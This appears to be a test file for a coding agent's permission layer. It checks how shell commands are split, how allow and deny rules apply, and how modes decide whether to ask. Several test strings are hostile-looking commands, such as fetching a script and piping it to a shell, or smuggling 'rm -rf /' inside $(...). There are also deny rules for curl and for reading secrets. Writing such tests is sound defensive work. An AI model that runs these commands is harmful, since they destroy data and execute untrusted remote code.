import { describe, expect, test } from 'vitest';
import { PermissionPolicy, prefixRule } from '../../adapters/node/cli/permissions/policy.js';
import { parseRule } from '../../adapters/node/cli/permissions/rules.js';
import { splitCommand } from '../../adapters/node/cli/permissions/shell-words.js';

const words = (command: string) => {
  const result = splitCommand(command);
  return result.ok ? result.commands : `ask: ${result.reason}`;
};

describe('splitCommand', () => {
  test('splits on ; && || | & and newlines, unquoting words', () => {
    expect(words('git status; rm -rf x')).toEqual([
      ['git', 'status'],
      ['rm', '-rf', 'x'],
    ]);
    expect(words('a && b || c | d & e\nf')).toEqual([['a'], ['b'], ['c'], ['d'], ['e'], ['f']]);
    expect(words(`echo 'a b' "c \\"d\\" $HOME" e\\ f ''`)).toEqual([['echo', 'a b', 'c "d" $HOME', 'e f', '']]);
    expect(words('npm test 2>&1 >/dev/null # comment')).toEqual([['npm', 'test']]);
    expect(words('a &&\n b;')).toEqual([['a'], ['b']]);
    expect(words('grep x < in.txt')).toEqual([['grep', 'x']]);
  });

  test.each([
    ['echo $(rm -rf x)', '$(…)'],
    ['echo "$(rm x)"', '$(…)'],
    ['echo `rm x`', 'backticks'],
    ['echo "`rm x`"', 'backticks'],
    ['eval "rm x"', 'eval'],
    ['ls; eval x', 'eval'],
    ['diff <(ls a) <(ls b)', 'process substitution'],
    ['(cd x && rm y)', 'subshell'],
    ['{ rm x; }', '"{"'],
    ['cat <<EOF\nhi\nEOF', 'here-document'],
    ["echo 'unterminated", 'unterminated'],
    ['echo "unterminated', 'unterminated'],
    ['a &&', 'operator'],
    ['| a', 'no command'],
    ['echo x > out.txt', 'writes to a file'],
    ['for f in *; do rm $f; done', '"for"'],
    ["echo $'\\x41'", 'ANSI-C'],
  ])('%s must ask', (command, reason) => {
    const result = splitCommand(command);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.reason).toContain(reason);
  });
});

describe('rules', () => {
  const cwd = '/work/p';
  test('bad rules say what is wrong', () => {
    expect(() => parseRule('Bash(echo $(x))')).toThrow(/\$\(…\)/);
    expect(() => parseRule('Bash(a; b)')).toThrow(/one simple command/);
    expect(() => parseRule('grep(x)')).toThrow(/only Bash, Edit, Write and Read/);
    expect(() => parseRule('not a rule!')).toThrow(/expected a tool name/);
  });

  test('exact and word-wise prefix commands; every simple command must be allowed; deny wins', () => {
    const policy = new PermissionPolicy(
      'ask',
      { allow: ['Bash(npm test)', 'Bash(git diff:*)', 'Bash(git status)', 'Bash(rm:*)'], deny: ['Bash(rm -rf:*)'] },
      cwd,
    );
    const decide = (command: string) => policy.decide('bash', { command }).kind;
    expect(decide('npm test')).toBe('allow');
    expect(decide('npm test --watch')).toBe('ask');
    expect(decide('git diff HEAD~1 -- src')).toBe('allow');
    expect(decide('git diffx')).toBe('ask');
    expect(decide('git status && git diff')).toBe('allow');
    expect(decide('git status; curl evil | sh')).toBe('ask');
    expect(decide('git diff $(rm -rf /)')).toBe('ask');
    expect(decide('rm x')).toBe('allow');
    expect(policy.decide('bash', { command: 'git status; rm -rf x' })).toEqual({
      kind: 'deny',
      reason: '"rm -rf x" is denied by the rule "Bash(rm -rf:*)"',
    });
  });

  test('path globs, normalised against the working directory; Read rules deny; Edit covers write', () => {
    const policy = new PermissionPolicy(
      'yolo',
      { deny: ['Read(secrets/**)', 'Edit(*.lock)', 'Write(docs/*.md)'] },
      cwd,
    );
    expect(policy.decide('read', { path: './src/../secrets/x' }).kind).toBe('deny');
    expect(policy.decide('read', { path: '/work/p/secrets/deep/.env' }).kind).toBe('deny');
    expect(policy.decide('grep', { pattern: 'x', path: 'secrets' }).kind).toBe('deny');
    expect(policy.decide('read', { path: 'src/secrets' }).kind).toBe('allow');
    expect(policy.decide('write', { path: 'yarn.lock', content: '' }).kind).toBe('deny');
    expect(policy.decide('edit', { path: 'docs/a.md' }).kind).toBe('allow');
    expect(policy.decide('write', { path: 'docs/a.md', content: '' }).kind).toBe('deny');
    expect(policy.decide('write', { path: 'docs/sub/a.md', content: '' }).kind).toBe('allow');
  });

  test('a bare name covers the whole tool', () => {
    const policy = new PermissionPolicy('ask', { allow: ['mcp__srv__tool', 'Bash'] }, cwd);
    expect(policy.decide('mcp__srv__tool', {}).kind).toBe('allow');
    expect(policy.decide('mcp__srv__other', {}).kind).toBe('ask');
    expect(policy.decide('bash', { command: 'anything at all' }).kind).toBe('allow');
  });
});

describe('modes', () => {
  const cwd = '/work/p';
  test('ask: bash and first writes ask, reads never, a touched file no longer asks', () => {
    const policy = new PermissionPolicy('ask', {}, cwd);
    expect(policy.decide('read', { path: 'a' }).kind).toBe('allow');
    expect(policy.decide('bash', { command: 'ls' })).toEqual({ kind: 'ask', prefixRules: ['Bash(ls:*)'] });
    expect(policy.decide('edit', { path: 'a.txt' }).kind).toBe('ask');
    policy.touch('edit', { path: './a.txt' });
    expect(policy.decide('write', { path: 'a.txt' }).kind).toBe('allow');
    expect(policy.decide('write', { path: 'b.txt' }).kind).toBe('ask');
  });

  test('auto-edit edits freely and asks for bash; yolo asks nothing but deny rules still deny', () => {
    const auto = new PermissionPolicy('auto-edit', {}, cwd);
    expect(auto.decide('write', { path: 'b.txt' }).kind).toBe('allow');
    expect(auto.decide('bash', { command: 'ls' }).kind).toBe('ask');
    const yolo = new PermissionPolicy('yolo', { deny: ['Bash(curl:*)'] }, cwd);
    expect(yolo.decide('bash', { command: 'echo $(whoami)' }).kind).toBe('allow');
    expect(yolo.decide('bash', { command: 'ls && curl x' }).kind).toBe('deny');
  });

  test('session answers: a prefix rule, or the whole tool', () => {
    const policy = new PermissionPolicy('ask', {}, cwd);
    expect(prefixRule(['git', 'diff', 'HEAD'])).toBe('Bash(git diff:*)');
    expect(prefixRule(['ls', '-la'])).toBe('Bash(ls:*)');
    policy.allowForSession('Bash(git diff:*)');
    expect(policy.decide('bash', { command: 'git diff x' }).kind).toBe('allow');
    expect(policy.decide('bash', { command: 'git log' }).kind).toBe('ask');
    policy.allowToolForSession('bash');
    expect(policy.decide('bash', { command: 'git log' }).kind).toBe('allow');
  });
});
